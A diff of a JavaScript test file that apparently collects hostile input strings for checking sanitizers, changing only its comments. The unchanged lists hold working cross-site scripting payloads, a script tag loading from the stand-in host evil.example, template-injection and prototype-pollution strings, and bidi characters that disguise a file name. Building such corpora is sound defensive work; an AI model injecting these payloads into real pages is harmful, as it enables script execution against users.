@@ -1,6 +1,6 @@
 const RUN = 'globalThis.pwned=1';
 
-/** Elements that run something, or ask for something, when they come to be. */
+/** Elements that run a script or send a request when they are created. */
 const elements = [
   `<script>${RUN}</script>`,
   `<script src=//evil.example/x.js></script>`,
@@ -64,7 +64,7 @@ const elements = [
   `<p onpointerover=${RUN}>x`,
 ];
 
-/** What ends the place it is thought to stand in. */
+/** Text that closes the element, attribute or string around it. */
 const endings = [
   `"><img src=x onerror=${RUN}>`,
   `'><img src=x onerror=${RUN}>`,
@@ -98,7 +98,7 @@ const endings = [
   `<<script>>${RUN}<</script>>`,
 ];
 
-/** Languages that a view might speak: templates, markdown, wikis, terminals, formulas. */
+/** Syntax that a view could interpret: templates, Markdown, wikis, terminals, formulas. */
 const languages = [
   `{{constructor.constructor('${RUN}')()}}`,
   '${' + RUN + '}',
@@ -152,7 +152,7 @@ const languages = [
   `view-source:javascript:${RUN}`,
 ];
 
-/** Names that programs stumble over, and texts that look like something else. */
+/** Names with a special meaning in programs, and text that imitates other content. */
 const names = [
   '__proto__',
   'constructor',
@@ -191,7 +191,7 @@ const names = [
   '/window/call/forget?subject=me',
 ];
 
-/** Signs that turn, hide, stack or break. */
+/** Characters that reverse, hide, stack or break text. */
 const signs = [
   '\u202Egnp.exe\u202C',
   '\u2066\u2067right\u2069left\u2069',
